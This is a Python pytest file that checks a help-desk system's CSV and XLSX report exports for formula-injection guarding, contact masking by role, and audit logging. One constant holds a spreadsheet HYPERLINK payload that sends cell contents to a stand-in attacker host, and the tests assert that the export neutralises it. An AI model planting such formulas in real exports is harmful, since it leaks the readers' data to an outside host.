"""CSV and XLSX exports of the reports dashboard and of a drill-down ticket list: the BOM,
the formula-injection guard, XLSX text cells, customer columns masked per the reader's
role, and one audit record per export with filter, format and row count, never data."""
from __future__ import annotations

import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook

from appliance.db import database
from appliance.models import AuditRecord, User
from appliance.rules.access import ROLE_PERMISSIONS, SYSTEM
from appliance.services import contacts, reports_refresh, roles
from tests.factories import ticket

SINCE = (dt.date.today() - dt.timedelta(days=100)).isoformat()
EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"


@pytest.fixture
def world(settings, org):
    with database.atomic():
        contacts.add(org.customer.customer_id, "phone", "13812345678")
    ids = {"evil": ticket(settings, SYSTEM, EVIL, department_id=org.after_sales,
                          customer_id=org.customer.customer_id).summary.id,
           "plain": ticket(settings, SYSTEM, "+86 退款", department_id=org.after_sales).summary.id,
           "log": ticket(settings, SYSTEM, "物流单号查询", department_id=org.logistics).summary.id}
    reports_refresh.rebuild()
    return ids


def _exports() -> list[dict]:
    return [json.loads(r.detail) for r in AuditRecord.select()
            .where(AuditRecord.action == "report.exported").order_by(AuditRecord.seq)]


def test_the_dashboard_csv_has_a_bom_the_figures_and_is_audited(login, world):
    r = login("lead").post("/agent/reports/export", data={"format": "csv", "from": SINCE},
                           csrf_from="/agent/reports")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert "attachment;" in r.headers["Content-Disposition"] and r.headers["Cache-Control"] == "no-store"
    body = r.get_data()
    assert body.startswith("\ufeff".encode())
    lines = body.decode("utf-8-sig").splitlines()
    assert lines[0] == "section,key,label,bucket,value,unit,numerator,denominator"
    volume = next(line for line in lines if line.startswith("figure,volume,"))
    assert volume.split(",")[4] == "2"                        # after-sales only
    (detail,) = _exports()
    assert detail["kind"] == "dashboard" and detail["format"] == "csv"
    assert detail["filter"]["from"] == SINCE and detail["rows"] == len(lines) - 1


def test_the_ticket_list_csv_guards_formulas_and_shows_a_supervisor_full_contacts(login, world):
    r = login("lead").post("/agent/reports/drill/export",
                           data={"format": "csv", "metric": "volume"}, csrf_from="/agent/reports")
    text = r.get_data().decode("utf-8-sig")
    assert r.status_code == 200
    assert "'" + EVIL.replace('"', '""') in text             # quoted by csv, then guarded
    assert "\n=" not in text and ",=" not in text and ',"=' not in text
    assert "'+86 退款" in text
    assert "物流单号查询" not in text                           # another department's ticket
    assert "13812345678" in text and "zhangsan@example.com" in text and "张三" in text
    (detail,) = _exports()
    assert detail == {"kind": "tickets", "format": "csv", "metric": "volume", "rows": 2,
                      "filter": detail["filter"]}
    raw = AuditRecord.get(AuditRecord.action == "report.exported").detail
    assert "13812345678" not in raw and "张三" not in raw and "HYPERLINK" not in raw


def test_a_role_without_full_contacts_gets_them_masked_in_the_export(login, world, org):
    # Neither every customer's contacts nor those of customers the reader works on.
    perms = sorted(ROLE_PERMISSIONS["supervisor"] - {"customer.view_pii", "customer.view_pii_worked"})
    role = roles.create_role(SYSTEM, "报表分析", "", "supervisor", perms)
    roles.assign_role(SYSTEM, org.supervisor.user_id, roles.CUSTOM_PREFIX + str(role.id))
    r = login("lead").post("/agent/reports/drill/export",
                           data={"format": "csv", "metric": "volume"}, csrf_from="/agent/reports")
    text = r.get_data().decode("utf-8-sig")
    assert r.status_code == 200
    assert "13812345678" not in text and "138****5678" in text
    assert "zhangsan@example.com" not in text and "z***@example.com" in text
    assert "张三" not in text and "张*" in text


def test_the_ticket_list_xlsx_opens_and_holds_text_cells_never_formulas(login, world):
    r = login("admin").post("/agent/reports/drill/export",
                            data={"format": "xlsx", "metric": "volume"}, csrf_from="/agent/reports")
    assert r.status_code == 200
    assert r.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ws = load_workbook(io.BytesIO(r.get_data())).active
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]][:3] == ["number", "subject", "status"]
    subjects = {row[1].value: row[1] for row in rows[1:]}
    assert set(subjects) == {EVIL, "+86 退款", "物流单号查询"}   # the administrator sees all
    assert subjects[EVIL].data_type == "s"                      # text, not a formula
    assert _exports()[0]["format"] == "xlsx" and _exports()[0]["rows"] == 3


def test_the_dashboard_xlsx_has_the_figures(login, world):
    r = login("lead").post("/agent/reports/export", data={"format": "xlsx"},
                           csrf_from="/agent/reports")
    ws = load_workbook(io.BytesIO(r.get_data())).active
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0][:5] == ["section", "key", "label", "bucket", "value"]
    assert ["figure", "volume", "Tickets created", None, 2] == rows[1][:5]


def test_bad_export_requests_are_refused_and_not_audited(login, world, org):
    lead = login("lead")
    r = lead.post("/agent/reports/export", data={"format": "pdf"}, csrf_from="/agent/reports")
    assert r.status_code == 400
    r = lead.post("/agent/reports/export", data={"format": "csv", "from": "2026-03-10",
                                                 "to": "2026-03-01"}, csrf_from="/agent/reports")
    assert r.status_code == 400
    r = lead.post("/agent/reports/drill/export", data={"format": "csv", "metric": "volume",
                                                       "department": str(org.logistics)},
                  csrf_from="/agent/reports")
    assert r.status_code == 403
    assert login("wangfang").post("/agent/reports/export", data={"format": "csv"},
                                  csrf_from="/agent/queue").status_code == 403
    assert _exports() == []
    assert User.get_by_id(org.supervisor.user_id).active


def test_an_export_without_the_csrf_token_is_refused_and_not_audited(login, world):
    lead = login("lead")
    assert lead.client.post("/agent/reports/export", data={"format": "csv"}).status_code == 400
    assert _exports() == []
